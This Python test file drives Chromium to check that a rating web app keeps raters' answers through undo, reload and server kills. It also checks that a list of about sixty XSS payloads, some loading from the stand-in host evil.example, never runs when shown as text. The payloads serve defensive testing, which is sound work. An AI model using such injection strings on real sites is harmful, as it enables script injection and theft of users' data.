"""The page in a real Chromium, its server in a process of its own: people rate, undo, reload; the server is killed."""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from test_label_hostile import TextOracle, hostile_run

from spannerlm import Run
from spannerlm.environments import environment

NAMES = ("chromium", "chromium-browser", "google-chrome")
CHROMIUM = next((found for name in NAMES if (found := shutil.which(name))), None)
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium: apt install chromium")

SERVER = """
import sys, uvicorn
from pathlib import Path
sys.path.insert(0, sys.argv[4])
from test_label_browser import opened
from spannerlm.web.desk import Desk
from spannerlm.web.label import label_app
folder, port, hostile = Path(sys.argv[1]), int(sys.argv[2]), sys.argv[3] == "hostile"
desk = Desk(opened(folder, hostile))
app = label_app(desk, hosts=frozenset({f"localhost:{port}"}), guidelines="<b>Be kind</b>")
uvicorn.run(app, host="127.0.0.1", port=port, log_level="error")
"""

MARKUP = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<math><mi xlink:href=javascript:{}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button>x</button></form>",
    "<marquee onstart={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<keygen autofocus onfocus={}>",
    "<link rel=stylesheet href=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    "<style>@import 'javascript:{}';</style>",
    "<div style='background:url(javascript:{})'>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<table background=javascript:{}>",
    "</p></main><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script><!--",
    "'\"><script>{}</script>",
    "javascript:{}",
    "<scr<script>ipt>{}</script>",
    "<SCRIPT SRC=data:text/javascript,{}></SCRIPT>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<img src=`x` onerror=`{}`>",
    "<x onclick={} tabindex=1 autofocus onfocus={}>",
    "${{}}",
    "{{{}}}",
    "<%= {} %>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={}>",
    "<img srcset='x' onerror={}>",
    "<picture><source srcset=x><img onerror={} src=x></picture>",
    "<object type=text/html data='data:text/html,<script>{}</script>'>",
    "<button formaction=javascript:{} autofocus onfocus={}>",
    "<div contenteditable onblur={} autofocus>",
    "<p onpointerenter={}>",
    "<custom-element onanimationstart={}>",
    "\\x00<script>{}</script>",
    "<script\\x20type='text/javascript'>{}</script>",
    "<script/src=//evil.example/{}></script>",
    "<a ping=//evil.example/{} href=#>x</a>",
    "<img src=//evil.example/{}>",
    "<dialog open onclose={}>",
    "<input type=image src=x onerror={}>",
    "<isindex type=image src=1 onerror={}>",
    "<bgsound src=javascript:{}>",
    "<xss style='behavior:url({})'>",
]
ATTACK = "(window.bad=1,alert(1))"
CORPUS = [text.replace("{}", ATTACK) for text in MARKUP]


def opened(folder: Path, hostile: bool = False) -> Run:
    """The run of this test: comparisons, two raters each; or one rating of each text of the corpus."""
    if not hostile:
        env = environment("rare-skill", seed=1)
        return Run.open(folder, env=env, budget=30, batch=2, overlap=2, feedback="comparison")
    return hostile_run(folder, TextOracle(CORPUS))


def free_port() -> int:
    with socket.socket() as found:
        found.bind(("127.0.0.1", 0))
        return int(found.getsockname()[1])


class Server:
    """The page in a process of its own."""

    def __init__(self, folder: Path, kind: str = "pairs") -> None:
        self.folder, self.kind, self.port = folder, kind, free_port()
        self.start()

    def start(self) -> None:
        arguments = [str(self.folder), str(self.port), self.kind, str(Path(__file__).parent)]
        command = [sys.executable, "-c", SERVER, *arguments]
        self.process = subprocess.Popen(command, env={**os.environ, "OMP_NUM_THREADS": "1"})
        for _ in range(300):
            try:
                with urllib.request.urlopen(self.url + "/health", timeout=1):
                    return
            except OSError:
                time.sleep(0.1)
        raise AssertionError("the page did not start")

    @property
    def url(self) -> str:
        return f"http://localhost:{self.port}"

    def kill(self) -> None:
        self.process.send_signal(signal.SIGKILL)
        self.process.wait()


@pytest.fixture
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as driver:
        found = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield found
        found.close()


class Person:
    """A rater at a keyboard, who remembers what he meant."""

    def __init__(self, browser: Any, server: Server, name: str) -> None:
        self.page = browser.new_context(viewport={"width": 390, "height": 780}).new_page()
        self.page.goto(server.url)
        self.page.fill("#name", name)
        self.page.keyboard.press("Enter")
        self.meant: list[tuple[str, str]] = []

    def sees(self) -> tuple[str, str, str] | None:
        """Prompt, left, right; None where there is nothing left."""
        self.page.wait_for_selector("#choices:visible, #wait-title:has-text('Nothing left')", timeout=20_000)
        if not self.page.is_visible("#choices"):
            return None
        left, right = self.page.locator(".side p").all_inner_texts()
        return self.page.inner_text("#prompt"), left, right

    def press(self, key: str) -> None:
        """Answer what is shown, and wait until it is saved."""
        seen = self.sees()
        assert seen is not None
        self.page.evaluate("document.getElementById('status').className = 'status'")
        self.page.keyboard.press(key)
        self.page.wait_for_selector("#status.saved", timeout=10_000)
        self.meant.append((json.dumps(seen), key))

    def undo(self) -> None:
        """Back to the last answer: it is meant no more."""
        seen = self.sees()
        self.page.keyboard.press("u")
        for _ in range(100):
            if self.sees() != seen:
                break
            time.sleep(0.05)


@needs_chromium
@pytest.mark.slow
def test_two_people_rate_pairs_while_the_server_is_killed(tmp_path: Path, browser: Any) -> None:
    server = Server(tmp_path / "run")
    ann, bob = Person(browser, server, "ann"), Person(browser, server, "bob")
    owner = browser.new_page()  # watches all the while
    owner.goto(server.url + "/owner")
    owner.wait_for_selector("#title:has-text('0 of')")
    keys = "1213" * 10
    for i in range(6):
        ann.press(keys[i])
        bob.press(keys[i + 1])
    ann.undo()
    last = json.dumps(ann.sees())
    assert last == ann.meant[-1][0]
    ann.undo()
    assert json.dumps(ann.sees()) == ann.meant[-2][0]
    final = dict(ann.meant)
    before = ann.meant[-2][0]
    ann.press("4" if final[before] != "3" else "1")
    final[before] = ann.meant[-1][1]
    shown = bob.sees()
    bob.page.reload()
    assert bob.sees() == shown
    server.kill()
    server.start()
    assert bob.sees() == shown
    for i in range(40):
        if (seen := ann.sees()) is not None and i < 9:
            ann.press(keys[i])
            final[json.dumps(seen)] = ann.meant[-1][1]
        if bob.sees() is not None and len(bob.meant) < 15:
            bob.press(keys[i])
        if len(ann.meant) >= 16 and len(bob.meant) >= 15:
            break
    bob_final = dict(bob.meant)
    panel = json.loads(urllib.request.urlopen(server.url + "/owner/panel").read())
    assert panel["labels"] >= 30
    owner.wait_for_selector(f"#title:has-text('{panel['labels']} of')")
    assert {"ann", "bob"} <= set(owner.locator("#raters").inner_text().split())
    server.kill()
    with opened(tmp_path / "run") as run:
        answers = [answer for answer in run.answers() if answer.status == "label"]
    assert panel["labels"] == len(answers) == len(final) + len(bob_final)
    value = {"1": 1.0, "2": 0.0, "3": 0.5, "4": 0.5}
    for answer in answers:
        query = answer.query
        meant = final if query.worker == "ann" else bob_final
        forward, backward = (
            [query.prompt, *pair] for pair in ((query.response, query.opponent), (query.opponent, query.response))
        )
        if json.dumps(forward) in meant:
            assert answer.value == value[meant[json.dumps(forward)]]
        else:
            assert answer.value == 1.0 - value[meant[json.dumps(backward)]]


@needs_chromium
@pytest.mark.slow
def test_nothing_of_a_text_is_executed(tmp_path: Path, browser: Any) -> None:
    assert len(CORPUS) >= 60
    server = Server(tmp_path / "run", "hostile")
    context = browser.new_context()
    page = context.new_page()
    alerts: list[str] = []
    outside: list[str] = []
    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: None if request.url.startswith(server.url) else outside.append(request.url))
    page.goto(server.url)
    name = "<img src=x onerror=(window.bad=1,alert(1))>"
    page.fill("#name", name)
    page.keyboard.press("Enter")
    seen: set[str] = set()
    for _ in range(len(CORPUS)):
        page.wait_for_selector("#number-form:visible, #wait-title:has-text('Nothing left')", timeout=20_000)
        if not page.is_visible("#number-form"):
            break
        seen |= {page.locator("#prompt").text_content(), page.locator(".side p").text_content()}
        assert page.locator("#sides *").count() == 3  # one side, its head and its text: no markup came of it
        page.fill("#value", "1")
        page.evaluate("document.getElementById('status').className = 'status'")
        page.keyboard.press("Enter")
        page.wait_for_selector("#status.saved, #status.wrong")
    assert page.inner_text("#who") == name
    page.goto(server.url + "/owner")
    page.wait_for_selector("#raters td")
    assert page.locator("#raters td").first.text_content() == name
    assert page.evaluate("window.bad") is None
    assert alerts == []
    assert outside == []
    exported = urllib.request.urlopen(server.url + "/owner/export/labels.jsonl").read().decode()
    server.kill()
    rows = [json.loads(line) for line in exported.splitlines()]
    assert len(rows) >= 60  # random prompts: the very last ones may not be found
    assert {row["response"] for row in rows} == {text for text in seen if text in CORPUS}
    assert {row["rater"] for row in rows} == {name}
